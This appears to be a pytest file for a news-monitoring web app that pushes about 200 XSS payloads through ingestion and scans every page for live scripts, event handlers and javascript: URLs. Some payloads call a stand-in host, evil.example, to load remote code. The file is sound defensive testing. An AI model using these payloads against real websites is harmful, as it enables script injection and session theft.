"""Hostile words of publishers, taken through the whole pipeline and looked for on every page: they stay words."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from collections.abc import Iterator
from html.parser import HTMLParser
from itertools import islice, product
from urllib.parse import quote

import pytest
from starlette.routing import Route

from nightdesk.app import App
from nightdesk.config import load_config
from nightdesk.web.server import Server
from nightdesk.web.site import make_site
from tests.alerting import Newsroom
from tests.asking import Asker
from tests.conftest import FakeClock

pytestmark = [pytest.mark.slow, pytest.mark.timeout(1200)]  # a thousand pages

_DEEDS = ("alert(7)", "top.location='//evil.example'", "import('//evil.example/x.js')", "eval(name)")
_VECTORS = (
    "<script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script href=data:,{}></script></svg>",
    "<svg><animate attributeName=href values=javascript:{}></svg>",
    "<body onpageshow={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    '" autofocus onfocus="{}',
    "' onmouseover='{}",
    '"><img src=x onerror="{}">',
    "<a href=javascript:{}>x</a>",
    "<a href=\"java\tscript:{}\">x</a>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<object data='data:text/html,<script>{}</script>'></object>",
    "<math><mi xlink:href='javascript:{}'>x</mi></math>",
    "<style>@import '//evil.example';</style>{}",
    "<link rel=stylesheet href=//evil.example/{}>",
    "<base href=//evil.example/>{}",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<form action=javascript:{}><button>x</button></form>",
    "<div hx-get=/logout hx-trigger=load hx-on:load={}>x</div>",
    "{{{{constructor.constructor('{}')()}}}}",
    "{{% raw %}}<script>{}</script>",
    "<!--<img title='--><script>{}</script>'>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<template><script>{}</script></template>",
    "<xss id=x tabindex=1 onactivate={}>",
    "\u2028<script>{}</script>\u2029",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "%3Cscript%3E{}%3C/script%3E",
    "＜script＞{}＜/script＞",
    "<ScRiPt/x>{}</sCrIpT>",
    "<<script>script>{}</script>",
    "<script\x0c>{}</script\x0c>",
    "<img src=1 href=1 onerror=\"javascript:{}\"></img>",
    "<video><source onerror=\"{}\"></video>",
    "<marquee onstart={}>x</marquee>",
    "<keygen autofocus onfocus={}>",
    "<audio src=x onerror={}>",
    "<table background=javascript:{}>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">{}</a>",
    "<button formaction=javascript:{}>x</button>",
    "<isindex action=javascript:{} type=submit>",
    "<image src=x onerror={}>",
    "<svg><foreignObject><iframe onload={}></foreignObject></svg>",
    "<p style=\"background:url(javascript:{})\">",
    "]]><script>{}</script>",
)  # fmt: skip
PAYLOADS = [vector.format(deed) for deed, vector in product(_DEEDS, _VECTORS)][:204]
_OURS = {"script": "src", "link": "href"}
_NEVER = frozenset(
    "iframe object embed base img image video audio source math template marquee style foreignobject animate".split()
)


class Faults(HTMLParser):
    """What a page has in it that could do something."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name.lower(): re.sub(r"[\x00-\x20]", "", value or "").lower() for name, value in attrs}
        self._in_script = tag == "script"
        if tag in _NEVER:
            self.found.append(f"<{tag}>")
        if tag in _OURS and not values.get(_OURS[tag], "").startswith(("/static/", "/desk.css")):
            self.found.append(f"<{tag} {values}>")
        if tag == "meta" and "http-equiv" in values:
            self.found.append("<meta http-equiv>")
        for name, value in values.items():
            if name.startswith(("on", "hx-on")) or name == "style":
                self.found.append(f"<{tag} {name}>")
            if value.startswith(("javascript:", "vbscript:", "data:")):
                self.found.append(f"<{tag} {name}={value[:40]}>")
            if name in ("action", "formaction") and value and not value.startswith("/"):
                self.found.append(f"<{tag} {name}={value[:40]}>")

    def handle_data(self, data: str) -> None:
        if self._in_script and data.strip():
            self.found.append(f"a script in the page: {data[:60]}")

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False


@pytest.fixture(scope="module")
def desk(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Asker]:
    """A desk that took in an article for each payload: in its title, text, outlet and address."""
    folder = tmp_path_factory.mktemp("hostile")
    file = folder / "nightdesk.toml"
    file.write_text(
        'data_dir = "data"\nmax_age = "3650d"\n[crawl]\nsources = []\n[web]\nlisten = "127.0.0.1:0"\n'
        '[[watch]]\nname = "all"\ntopics = ["scam_centres"]\nchannels = ["desk"]\n'
        '[channel.desk]\nurl = "json://127.0.0.1:9/"\n'
    )
    lines = []
    for number, payload in enumerate(PAYLOADS):
        text = (
            f"Thai police freed {100 + number} people from a scam compound in Myawaddy on 12 October 2026, said"
            f" {payload} of the embassy. They had been forced to run online fraud, and will be flown home from Mae Sot"
            " this week."
        )
        lines.append(
            {
                "url": f"https://news.example.org/{number}?q={quote(payload)}",
                "title": f"{100 + number} freed from scam compound {payload}",
                "text": text,
                "outlet": f"Post {number} {payload}",
                "published": "2026-10-13T05:05:00Z",
                "language": "en",
            }
        )
    (folder / "hostile.jsonl").write_text("\n".join(json.dumps(line) for line in lines))
    ingest = [sys.executable, "-m", "nightdesk", "ingest", "--format", "jsonl", "hostile.jsonl"]
    # A process of its own: the reactor it needs may be running here for other tests, and starts only once.
    taken = subprocess.run(ingest, cwd=folder, capture_output=True, text=True, timeout=600)
    assert taken.returncode == 0, taken.stderr
    clock = FakeClock()
    with App.open(load_config(file, {}), "test", clock) as app:
        site = make_site(app)
        server = Server(site, "127.0.0.1:0")
        server.start()
        try:
            yield Asker(app, Newsroom(app.store, clock), site, server.address)
        finally:
            server.stop()


def addresses(desk: Asker) -> Iterator[str]:
    """Every page: those with an id for each that there is, those with a name for each, and questions that find much."""
    tables = {"developments": "developments", "articles": "articles", "threads": "threads", "facts": "facts"}
    for route in desk.site.routes:
        if not isinstance(route, Route) or "GET" not in (route.methods or ()) or route.path.startswith(("/api", "/a/")):
            continue
        if "{" not in route.path:
            yield route.path
        elif (table := tables.get(route.path.split("/")[1])) and route.path.endswith("/{id:int}"):
            for row in islice(desk.room.rows(f"SELECT id FROM {table} ORDER BY id"), 210):
                yield route.path.replace("{id:int}", str(row[0]))
    yield from (f"/alerts/{row[0]}" for row in desk.room.rows("SELECT id FROM alerts"))
    yield from ("/search?q=compound", "/search?q=script", "/watches/all", "/charts?months=6", "/map?months=6")
    yield "/sql?q=" + quote("SELECT title, outlet, url FROM articles_v LIMIT 400")
    yield from ("/search?q=" + quote(payload) for payload in PAYLOADS[::10])


def test_no_words_of_a_publisher_do_anything_on_any_page(desk: Asker) -> None:
    assert len(PAYLOADS) >= 200 and len(desk.room.rows("SELECT id FROM articles")) == len(PAYLOADS)
    faults, seen, shown = {}, 0, 0
    for address in addresses(desk):
        answer = desk.ask(address, Accept="text/html")
        if not answer.headers.get("content-type", "").startswith("text/html"):
            continue
        assert answer.status in (200, 400, 404), (address, answer.status)
        page = Faults()
        page.feed(answer.text)
        seen += 1
        shown += "alert(7)" in answer.text or "evil.example" in answer.text
        if page.found:
            faults[address] = page.found[:5]
    assert faults == {}
    assert seen > 250 and shown > 200, "the words are on the pages that were looked at"


def test_the_test_would_find_every_kind_of_payload() -> None:
    harmless = [payload for payload in PAYLOADS[: len(_VECTORS)] if not _faults(f"<p>{payload}</p>")]
    assert len(harmless) <= 12, harmless  # those that only do something inside an attribute, or after decoding


def _faults(text: str) -> list[str]:
    page = Faults()
    page.feed(text)
    return page.found
